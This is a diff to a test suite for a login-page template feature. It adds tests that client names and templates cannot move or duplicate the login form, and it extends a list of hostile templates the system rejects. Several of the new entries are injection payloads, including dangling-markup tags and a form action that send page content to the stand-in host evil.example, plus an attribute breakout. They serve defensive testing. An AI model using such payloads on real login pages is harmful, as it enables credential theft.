@@ -213,6 +213,24 @@ def test_what_a_client_is_called_is_escaped_in_the_template(api: Api, world: Wor
     assert "On the way to &lt;script&gt;" in browser.shown.html
 
 
+def test_names_cannot_move_the_form(api: Api, world: World) -> None:
+    """Nor can a template that leaves its place out today."""
+    moving = page().replace("<body>", '<body><p title="{{ application.name }}">x</p>')
+    leaving = page().replace("{%- auth0:widget -%}", "{% if locale == 'xx' %}{%- auth0:widget -%}{% endif %}")
+    for source, name in ((moving, "gatehouse-own-widget"), (leaving, "Shop")):
+        assert api.put("/branding/templates/universal-login", {"template": source}).status_code == 201
+        browser = world.browser()
+        world.client(name=name).begin(browser)
+        assert '<p title="' not in browser.shown.html
+        assert browser.shown.html.count('id="login-submit"') == 1
+
+
+def test_blocks_may_stand_in_values(api: Api, world: World) -> None:
+    source = page(body="<p class=\"{% if locale == 'en' %}own{% endif %}\">{{ locale | append: ', ok' }}</p>")
+    assert api.put("/branding/templates/universal-login", {"template": source}).status_code == 201
+    assert '<p class="own">en, ok</p>' in shown(world)[0]
+
+
 def page(head: str = "", body: str = "") -> str:
     return f"<html><head>{{%- auth0:head -%}}{head}</head><body>{{%- auth0:widget -%}}{body}</body></html>"
 
@@ -257,6 +275,14 @@ HOSTILE = [
     page(body="<object data=x></object>"),
     page(body="<math><mtext></mtext></math>"),
     page(body="x" * 100_001),
+    page(body="<img src='https://evil.example/?"),
+    '<html><head>{%- auth0:head -%}</head><body><a href="https://evil.example/{%- auth0:widget -%}',
+    page(body="<!-- to the end"),
+    page(body='{{ "<form action=https://evil.example/>" }}'),
+    page(body="{% assign a = '<b' %}{{ a }}"),
+    page(body="<a href='{{ \"x' onclick='y\" }}'>x</a>"),
+    page(body="<img src='https://evil.example/?{% if locale == 'xx' %}'>{% endif %}"),
+    page(head="<title>{% if locale == 'xx' %}</title>{% endif %}"),
 ]
 
 
